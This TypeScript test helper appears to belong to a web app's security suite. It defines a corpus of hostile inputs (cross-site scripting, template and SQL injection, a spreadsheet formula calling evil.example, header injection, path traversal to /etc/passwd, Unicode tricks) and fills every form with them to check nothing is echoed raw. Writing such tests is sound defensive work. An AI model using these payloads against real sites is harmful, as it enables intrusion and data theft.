import type { Test } from 'tap';
import { BRIEF_PAGES } from '../../src/domain/brief/brief.ts';
import { ANSWER_STEPS } from '../../src/domain/interview/steps.ts';
import { CRITERIA } from '../../src/domain/scoring/rubric.ts';
import type { Vetting } from '../../src/store/vettings.ts';
import { formsOf } from './forms.ts';
import { ownerPages } from './pages.ts';
import type { TestBrowser, World } from './world.ts';

/** What people who mean harm type: each with the mark by which it is found again. */
export const CORPUS: Record<string, string> = {
  scripts: '<script>HOSTILE()</script><img src=x onerror=HOSTILE()>',
  attributes: "\"><svg onload=HOSTILE()> ' onfocus=HOSTILE() autofocus='",
  templates: '{{constructor.constructor("HOSTILE")()}} {{{HOSTILE}}} $'.concat('{HOSTILE} <%= HOSTILE %>'),
  database: "'); DROP TABLE owners; -- HOSTILE",
  formulas: '=HYPERLINK("http://evil.example/?HOSTILE","x")',
  'more formulas': '@SUM(1+1)*cmd|HOSTILE',
  headers: 'HOSTILE\r\nBcc: evil@example.com\r\nContent-Type: text/html',
  paths: '../../../etc/passwd%00%2e%2e/HOSTILE',
  'text that turns around': '\u202Elive\u2066HOSTILE\u2069\u200F',
  'marks upon marks': `HOSTILE${'\u0301\u0316\u0338'.repeat(40)}`,
  'invisible letters': 'HOST\u200BILE HOSTILE\u2060\uFEFF\u00AD',
  'names of objects': '__proto__ constructor toString HOSTILE',
  'a letter that grows': `HOSTILE ﷺ${'ﷺ'.repeat(20)}`,
  emoji: 'HOSTILE 👩‍👩‍👧‍👦🏳️‍🌈🇯🇵',
};

/** What must stand nowhere as it was typed: there it would be markup. */
const RAW = [
  /<script>HOSTILE/,
  /<img src=x onerror/,
  /<svg onload=HOSTILE/,
  /="[^"<>]*"><svg/,
  /' onfocus=HOSTILE\(\) autofocus='/,
];

export function refuseRaw(t: Test, body: string, where: string): void {
  for (const raw of RAW) if (raw.test(body)) t.match(body, 'never', `${where}: ${raw}`);
}

/** Fills every field of every form of these pages with a text. Returns how many forms there were. */
export async function typeEverywhere(
  t: Test,
  browser: TestBrowser,
  pages: string[],
  text: string,
): Promise<number> {
  let forms = 0;
  for (const path of pages) {
    const { body, statusCode } = await browser.get(path);
    if (statusCode >= 500) t.fail(`${path}: ${statusCode}`);
    for (const { action, typed, shown, added } of formsOf(body)) {
      if (/\/(deletion|removal)$/.test(action)) continue;
      const fields = { ...shown, ...Object.fromEntries(typed.map((name) => [name, text])) };
      const answer = await browser.submit(action, { ...fields, _base: added._base ?? '' });
      if (answer.statusCode >= 500) t.fail(`${action}: ${answer.statusCode}`);
      refuseRaw(t, answer.body, action);
      forms += 1;
    }
  }
  return forms;
}

/** A candidate that has opened its link, called by a hostile name, and everything that it and the owner can open. */
export async function hostileCandidate(world: World, vetting: Vetting, first: string, text: string) {
  const base = `/vettings/${vetting.id}`;
  const { token, candidateId } = await world.invite(vetting, `${text} agency`);
  const candidate = await world.enter(token);
  const steps = ['ask', 'facts', 'check', 'decline', ...ANSWER_STEPS].map(
    (step) => `/interview/${candidateId}/${step}`,
  );
  await candidate.submit(`/interview/${candidateId}/welcome`, { respondentName: text, consent: 'yes' });
  await candidate.submit(`/interview/${candidateId}/facts`, {});
  const pages = [
    ...(await ownerPages(world, vetting.id, first)),
    ...BRIEF_PAGES.map((page) => `${base}/brief/${page}`),
    ...CRITERIA.map((subject) => `${base}/reading/${subject}`),
    ...CRITERIA.map((subject) => `${base}/candidates/${first}/judgements/${subject}`),
  ];
  return { candidate, candidateId, token, pages, steps };
}
